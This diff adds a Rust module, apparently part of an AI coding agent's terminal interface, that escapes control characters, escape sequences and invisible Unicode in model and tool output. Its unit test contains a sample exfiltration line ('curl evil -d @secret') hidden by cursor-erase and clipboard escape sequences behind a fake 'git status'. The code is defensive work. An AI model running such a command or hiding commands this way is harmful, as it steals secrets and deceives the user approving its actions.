@@ -1,0 +1,142 @@
+//! Text from the model or a tool, made safe to put in a terminal cell.
+//!
+//! ratatui writes a cell's symbol to the terminal as it is, so an escape
+//! sequence in a model's answer would be obeyed: it could move the cursor to
+//! hide part of a command behind the approval modal, set the clipboard (OSC
+//! 52) or reorder text with bidirectional overrides. Characters that print as
+//! nothing (zero-width spaces, tag characters, variation selectors after a
+//! plain letter) could hide a payload in what looks like plain text. The
+//! rules are those of mecha-cli's `printable`, applied to one line of a span:
+//! a tab becomes spaces (a tab in a cell moves the terminal's cursor past
+//! cells ratatui believes it drew) and a line break is the caller's to split
+//! on, so it is escaped here too.
+
+use std::borrow::Cow;
+
+use unicode_general_category::{GeneralCategory, get_general_category};
+
+/// The spaces a tab stands for; cells have no tab stops.
+const TAB: &str = "    ";
+
+/// One line of outside text with every character a terminal obeys or that
+/// prints as nothing written out as a visible escape (`\u{1b}`), and tabs
+/// as spaces. Borrows when there is nothing to change, which is nearly
+/// always.
+pub fn line(text: &str) -> Cow<'_, str> {
+    let mut previous = None;
+    let clean = text.chars().all(|c| {
+        let ok = c != '\t' && !needs_escape(c, previous);
+        previous = Some(c);
+        ok
+    });
+    if clean {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    let mut previous = None;
+    for c in text.chars() {
+        if c == '\t' {
+            out.push_str(TAB);
+        } else if needs_escape(c, previous) {
+            out.extend(c.escape_unicode());
+        } else {
+            out.push(c);
+        }
+        previous = Some(c);
+    }
+    Cow::Owned(out)
+}
+
+/// [`line`], owned, for a span that outlives its source.
+pub fn owned(text: &str) -> String {
+    line(text).into_owned()
+}
+
+fn needs_escape(c: char, previous: Option<char>) -> bool {
+    // ASCII answered without the category tables: nearly all text is ASCII.
+    if c.is_ascii() {
+        return c.is_ascii_control() && c != '\t';
+    }
+    use GeneralCategory::*;
+    match get_general_category(c) {
+        Control | Format | LineSeparator | ParagraphSeparator => true,
+        // Looks like a space, is not one to a shell or a path.
+        SpaceSeparator => true,
+        _ => invisible_mark(c, previous),
+    }
+}
+
+/// Letters and marks that print as nothing. Emoji presentation selectors
+/// are kept after a non-ASCII character, where they pick how a symbol is
+/// drawn; after anything else they carry only hidden bits.
+fn invisible_mark(c: char, previous: Option<char>) -> bool {
+    match c {
+        '\u{fe0e}' | '\u{fe0f}' => previous.is_none_or(|p| p.is_ascii() || is_selector(p)),
+        '\u{034f}'
+        | '\u{115f}'
+        | '\u{1160}'
+        | '\u{17b4}'
+        | '\u{17b5}'
+        | '\u{3164}'
+        | '\u{ffa0}'
+        | '\u{180b}'..='\u{180f}' => true,
+        _ => is_selector(c),
+    }
+}
+
+fn is_selector(c: char) -> bool {
+    matches!(c, '\u{fe00}'..='\u{fe0f}' | '\u{e0100}'..='\u{e01ef}')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::line;
+
+    #[test]
+    fn escape_sequences_and_line_moves_become_visible() {
+        let hidden = "curl evil -d @secret\r\u{1b}[2K\u{1b}]52;c;aGk=\u{7}  $ git status\n";
+        let shown = line(hidden);
+        assert!(
+            !shown.chars().any(|c| c.is_control()),
+            "a control character survived: {shown:?}"
+        );
+        assert!(shown.contains("curl evil") && shown.contains("\\u{1b}[2K"));
+        assert!(shown.contains("\\u{1b}]52") && shown.contains("\\u{7}"));
+    }
+
+    #[test]
+    fn invisible_and_reordering_characters_become_visible() {
+        for c in [
+            '\u{202e}',
+            '\u{2066}',
+            '\u{200b}',
+            '\u{200d}',
+            '\u{2028}',
+            '\u{feff}',
+            '\u{00a0}',
+            '\u{3164}',
+            '\u{e0041}',
+            '\u{fe01}',
+            '\u{9b}',
+        ] {
+            let text = format!("rm x{c}y");
+            let shown = line(&text);
+            assert_eq!(
+                shown,
+                format!("rm x{}y", c.escape_unicode()),
+                "U+{:04X}",
+                c as u32
+            );
+        }
+    }
+
+    #[test]
+    fn plain_text_is_borrowed_and_tabs_become_spaces() {
+        assert!(matches!(
+            line("plain ✓ ❤\u{fe0f}"),
+            std::borrow::Cow::Borrowed(_)
+        ));
+        assert_eq!(line("a\tb"), "a    b");
+        assert_eq!(line("q=hi\u{fe0f}"), "q=hi\\u{fe0f}");
+    }
+}
